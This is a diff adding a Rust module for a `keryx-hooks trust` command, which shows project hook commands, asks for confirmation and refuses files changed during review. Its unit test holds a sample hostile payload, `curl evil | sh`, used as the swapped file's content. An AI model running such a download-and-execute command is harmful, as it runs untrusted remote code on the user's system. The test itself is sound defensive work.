@@ -1,0 +1,193 @@
+//! `keryx-hooks trust [--yes]`: prints every command the project's
+//! `.metaproject/hooks.json` would register, escaped, then records trust
+//! for exactly that version. With no terminal to ask in and no `--yes` it
+//! refuses and writes nothing. What is recorded is the digest of what was
+//! shown; the file is read and digested again right before writing, so a
+//! file swapped while the question was on screen is not trusted.
+
+use std::io::IsTerminal;
+use std::path::{Path, PathBuf};
+use std::process::ExitCode;
+
+use crate::cli::TrustArgs;
+use crate::config::load::{self, Loaded};
+use crate::config::model::Scope;
+use crate::config::{self};
+use crate::error::{CmdResult, CommandError};
+use crate::escape::escape;
+use crate::output;
+use crate::paths::Locations;
+use crate::trust::{self, Record, Store, TrustState, digest, display};
+
+pub fn run(args: &TrustArgs) -> CmdResult {
+    let loc = super::here();
+    super::print_location_warnings(&loc);
+    let root = project_root(&loc)?;
+    let store = open_store(&loc)?;
+    let loaded = load_project(&loc)?;
+    let hooks = digest::command_hooks(&loaded.registrations);
+    let file = loc.project_hooks_file().unwrap_or_default();
+    if hooks.is_empty() {
+        output::line(&format!(
+            "`{}` defines no command hooks; there is nothing to trust",
+            escape(&file.display().to_string())
+        ));
+        return Ok(ExitCode::SUCCESS);
+    }
+    let verdict = trust::evaluate(&loaded, &loc);
+    for w in &verdict.warnings {
+        output::err_line(&format!("warning: {}", escape(w)));
+    }
+    output::stdout(&display::review(&verdict, &hooks, &root));
+    if verdict.state == TrustState::Trusted {
+        output::line("This exact version is already trusted; nothing changed.");
+        return Ok(ExitCode::SUCCESS);
+    }
+    // Digest what was shown, before the question: that is what gets recorded.
+    let shown = trust::record_for(&loaded, &root);
+
+    if !args.yes {
+        if !std::io::stdin().is_terminal() {
+            return Err(CommandError::user(
+                "there is no terminal to ask in and `--yes` was not given; nothing was trusted",
+            )
+            .hint("run `keryx-hooks trust` in a terminal to review and confirm, or `keryx-hooks trust --yes` once you have read the commands above"));
+        }
+        if !confirm()? {
+            output::line("Not trusted; nothing was written.");
+            return Ok(ExitCode::from(1));
+        }
+    }
+    ensure_unchanged(&loc, &root, &shown)?;
+    store
+        .set(&root, Some(shown.clone()))
+        .map_err(|why| CommandError::internal("could not record trust").cause(why))?;
+    output::line(&format!(
+        "Trusted: {} command {} in `{}` now {} in this project. `keryx-hooks untrust` withdraws this.",
+        hooks.len(),
+        if hooks.len() == 1 { "hook" } else { "hooks" },
+        escape(&file.display().to_string()),
+        if hooks.len() == 1 { "runs" } else { "run" },
+    ));
+    Ok(ExitCode::SUCCESS)
+}
+
+/// Asks on the terminal; anything but yes is no.
+fn confirm() -> Result<bool, CommandError> {
+    output::stdout("Trust exactly this version? [y/N] ");
+    let mut answer = String::new();
+    std::io::stdin().read_line(&mut answer)?;
+    Ok(matches!(
+        answer.trim().to_ascii_lowercase().as_str(),
+        "y" | "yes"
+    ))
+}
+
+/// Reads and digests the file again; refuses when it no longer matches
+/// what the user approved.
+pub(crate) fn ensure_unchanged(
+    loc: &Locations,
+    root: &Path,
+    shown: &Record,
+) -> Result<(), CommandError> {
+    let again = load_project(loc)?;
+    let now = trust::record_for(&again, root);
+    if now.digest != shown.digest || now.pinned_digest != shown.pinned_digest {
+        return Err(CommandError::user(
+            "the hooks file (or a file its commands name) changed while you were reviewing it; nothing was trusted",
+        )
+        .hint("run `keryx-hooks trust` again to review the new version"));
+    }
+    Ok(())
+}
+
+/// The project root, or a user error saying there is none.
+pub(crate) fn project_root(loc: &Locations) -> Result<PathBuf, CommandError> {
+    loc.project_root.clone().ok_or_else(|| {
+        CommandError::user(format!(
+            "`{}` is not inside a project (no git toplevel or `.metaproject` above it)",
+            escape(&loc.cwd.display().to_string())
+        ))
+        .hint("run this from inside the project whose hooks you mean")
+    })
+}
+
+/// The trust store, or a refusal saying why it cannot be used.
+pub(crate) fn open_store(loc: &Locations) -> Result<Store, CommandError> {
+    Store::open(loc).map_err(|why| {
+        CommandError::user("refusing to use the trust store; nothing was read or written")
+            .cause(escape(&why))
+            .hint("set XDG_DATA_HOME to a directory outside the project that only you can write")
+    })
+}
+
+/// Loads every layer and insists the project file itself is sound: a file
+/// that does not load is not something to approve.
+pub(crate) fn load_project(loc: &Locations) -> Result<Loaded, CommandError> {
+    let loaded = load::load(&config::sources(loc, None));
+    let project_file = loc.project_hooks_file();
+    let errors: Vec<String> = loaded
+        .errors()
+        .filter(|d| d.path.is_none() || d.path == project_file)
+        .map(|d| d.to_string())
+        .collect();
+    if !errors.is_empty() {
+        let mut e =
+            CommandError::config("the project hooks file does not load, so it cannot be trusted");
+        for d in errors {
+            e = e.cause(d);
+        }
+        return Err(e.hint("keryx-hooks validate"));
+    }
+    if loaded.file(Scope::Project).is_none() {
+        // Absent is fine (nothing to trust); present-but-not-loaded is not.
+        if let Some(f) = &project_file
+            && std::fs::symlink_metadata(f).is_ok()
+        {
+            return Err(CommandError::config(format!(
+                "`{}` was not loaded",
+                escape(&f.display().to_string())
+            ))
+            .hint("keryx-hooks validate"));
+        }
+    }
+    Ok(loaded)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The check `trust` makes between the question and the write: a file
+    /// swapped after it was shown is refused.
+    #[test]
+    fn a_file_swapped_after_review_is_not_trusted() {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = std::fs::canonicalize(tmp.path()).unwrap().join("proj");
+        std::fs::create_dir_all(root.join(".git")).unwrap();
+        std::fs::create_dir_all(root.join(".metaproject")).unwrap();
+        let file = root.join(".metaproject/hooks.json");
+        let write = |cmd: &str| {
+            std::fs::write(
+                &file,
+                format!(r#"{{"schemaVersion": "1.0.0", "hooks": {{"Stop": [{{"id": "aa", "class": "observe", "command": {{"argv": ["/bin/sh", "-c", "{cmd}"]}}}}]}}}}"#),
+            )
+            .unwrap()
+        };
+        write("echo reviewed");
+        // Resolved, then pointed away from the real home so the test is hermetic.
+        let mut loc = Locations::resolve(&root);
+        loc.keryx_home = tmp.path().join("home/.keryx");
+        loc.data_dir = tmp.path().join("home/data/keryx");
+        loc.state_dir = tmp.path().join("home/state/keryx");
+        assert_eq!(loc.project_root.as_deref(), Some(root.as_path()));
+        let shown = trust::record_for(&load_project(&loc).unwrap(), &root);
+        assert!(ensure_unchanged(&loc, &root, &shown).is_ok());
+        write("curl evil | sh");
+        let err = ensure_unchanged(&loc, &root, &shown).unwrap_err();
+        assert!(
+            err.message.contains("changed while you were reviewing"),
+            "{err}"
+        );
+    }
+}
